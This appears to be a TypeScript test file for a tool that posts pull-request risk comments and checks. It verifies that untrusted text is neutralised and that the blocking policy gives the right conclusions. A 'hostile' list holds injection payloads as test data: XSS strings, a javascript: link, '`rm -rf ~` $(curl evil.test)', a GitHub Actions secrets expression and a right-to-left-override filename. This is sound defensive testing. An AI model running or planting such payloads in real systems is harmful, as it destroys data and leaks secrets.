import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import '../../../../../tests/house/property-seed.ts'
import { code } from '../../markdown.ts'
import { liveTextOf } from '../../markdown.fixture.ts'
import { type Finding, lookedAtInPart } from '../findings/finding.ts'
import { policyShape } from '../findings/policy.ts'
import { checkOf } from './check.ts'
import { type Commented, commentMarker, commentOf } from './comment.ts'

const finding = (paths: string[], names: string[] = []): Finding => ({
  id: 'sensitive-path',
  severity: 'warning',
  text: 'It touches a path.',
  area: null,
  paths,
  names,
  count: paths.length,
})
const comment = (more: Partial<Commented>): string =>
  commentOf({
    title: 'Add a door',
    headSha: 'a'.repeat(40),
    change: null,
    risk: null,
    findings: [],
    isListed: true,
    check: { conclusion: 'neutral', title: 'No probability yet, 0 findings' },
    ...more,
  })

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '`rm -rf ~` $(curl evil.test) ; `` ``` `',
  '@octocat please @org/team',
  'closes #1, see https://evil.test/ and [x](javascript:alert(1))',
  'a\n\n# heading\n- [ ] task\n| a | b |',
  '${{ secrets.TOKEN }} ::set-output name=a::b',
  '\u202Etxt.exe',
  '-->\n<!-- keyhold:pull-request -->',
]

describe('P10: what others wrote', () => {
  for (const text of hostile)
    test(`P10: is never live as ${JSON.stringify(text.slice(0, 30))}`, () => {
      const live = liveTextOf(comment({ title: text, findings: [finding([text], [text])] }))

      const plain = liveTextOf(comment({ title: 'x', findings: [finding(['x'], ['x'])] }))
      assert.equal(live, plain)
    })

  test('P10: is never live, whatever it is', () => {
    const sign = fc.constantFrom('`', '``', '\\', '@', '<', '\n', '\r', '\u2028', 'a', ' ', '-->', '\u200b')
    fc.assert(
      fc.property(fc.array(fc.oneof(sign, fc.string()), { maxLength: 20 }), (pieces) => {
        const shown = `before ${code(pieces.join(''))} behind`

        assert.equal(liveTextOf(shown), 'before  behind')
        assert.ok(!/[\n\r\u2028\u202e]/.test(shown))
      }),
    )
  })

  test('P10: is cut off where it is long', () => {
    assert.ok([...code('😀'.repeat(1000))].length < 210)
  })
})

describe('P9: the comment', () => {
  test('P9: begins with what it is found again by, once', () => {
    const text = comment({})

    assert.ok(text.startsWith(`${commentMarker}\n`))
    assert.equal(text.split(commentMarker).length, 2)
  })

  test('P9: says the probability with its interval, where it stands, why, and what the policy found', () => {
    const text = comment({
      risk: {
        probability: 0.374,
        interval: { low: 0.15, high: 0.66 },
        level: 'medium',
        isProvisional: true,
        isCalibrated: false,
        index: { percentile: 80, of: 200 },
        usualProbability: 0.13,
        modelProbability: 0.374,
        reasons: [
          {
            measure: 'la',
            value: 1,
            usual: 2,
            contribution: -0.5,
            text: 'It adds 1 line; a usual change adds 2.',
          },
        ],
      },
      findings: [{ ...finding(['a', 'b', 'c', 'd', 'e', 'f']), count: 30 }],
    })

    for (const part of [
      '**37 %** (15 % to 66 %), level **medium**. More than 80 of 100',
      'Provisional: the totals alone are known',
      'a usual change, 13 %:\n- ÷1.6 It adds 1 line',
      '⚠️ It touches a path.',
      'and 25 more',
    ])
      assert.ok(text.includes(part), `${part}\n${text}`)
  })
})

test('P9: the comment says that nothing was looked at where no files were sent, and leaves no line empty', () => {
  const text = comment({ title: '', headSha: null, isListed: false })

  assert.match(text, /files of the change were not sent: there is no probability without them/)
  assert.doesNotMatch(text, /No findings|\n\n\n/)
})

describe('P9: the check', () => {
  const told = (more: object = {}) => ({
    probability: 0.9,
    isComplete: true,
    isListed: true,
    findings: [finding(['a'])],
    ...more,
  })
  const conclusion = (blocking: object, more: object = {}) =>
    checkOf(told(more), policyShape.parse({ blocking })).conclusion

  test('P9: is neutral whatever is found, unless the repository opted in', () => {
    assert.equal(checkOf(told(), policyShape.parse({})).conclusion, 'neutral')
  })

  test('P9: fails by a probability or a finding that the repository named, and passes otherwise', () => {
    assert.equal(conclusion({ probability: 0.9 }), 'failure')
    assert.equal(conclusion({ probability: 0.91 }), 'success')
    assert.equal(conclusion({ findings: ['sensitive-path'] }), 'failure')
    assert.equal(conclusion({ findings: ['schema-risk'] }), 'success')
  })

  test('P9: says a probability below its threshold as one', () => {
    const { title } = checkOf(
      told({ probability: 0.5987 }),
      policyShape.parse({ blocking: { probability: 0.6 } }),
    )

    assert.match(title, /59\.9 %/)
  })

  test('P9: says that no file was looked at rather than that nothing was found', () => {
    const { title } = checkOf(told({ isListed: false, findings: [] }), policyShape.parse({}))

    assert.match(title, /no file of it was looked at$/)
  })

  test('P9: that blocks does not pass what nobody told the files of', () => {
    assert.equal(
      conclusion({ probability: 0.5 }, { probability: null, isComplete: false }),
      'action_required',
    )
    assert.equal(conclusion({ probability: 0.5 }, { probability: 0.1, isComplete: false }), 'action_required')
  })

  test('P9: that blocks by findings does not pass what was looked at in part', () => {
    const findings = [lookedAtInPart('sensitive-path')]

    assert.equal(conclusion({ findings: ['sensitive-path'] }, { findings }), 'action_required')
    assert.equal(conclusion({ findings: ['unowned-files'] }, { findings }), 'success')
  })
})
